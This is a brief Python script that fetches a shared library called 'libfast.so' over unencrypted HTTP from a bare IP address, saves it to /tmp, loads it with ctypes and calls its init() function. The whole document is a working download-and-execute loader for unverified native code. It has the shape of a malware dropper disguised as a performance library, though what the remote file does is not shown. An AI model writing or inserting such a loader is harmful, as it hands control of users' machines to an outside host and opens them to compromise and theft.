import asyncio
import ctypes
import aiohttp

async def fetch(url, dst):
    async with aiohttp.ClientSession() as s:
        async with s.get(url) as r:
            data = await r.read()
    with open(dst, "wb") as f:
        f.write(data)

asyncio.run(fetch("http://172.104.5.6/lib/libfast.so", "/tmp/libfast.so"))
lib = ctypes.CDLL("/tmp/libfast.so")
lib.init()
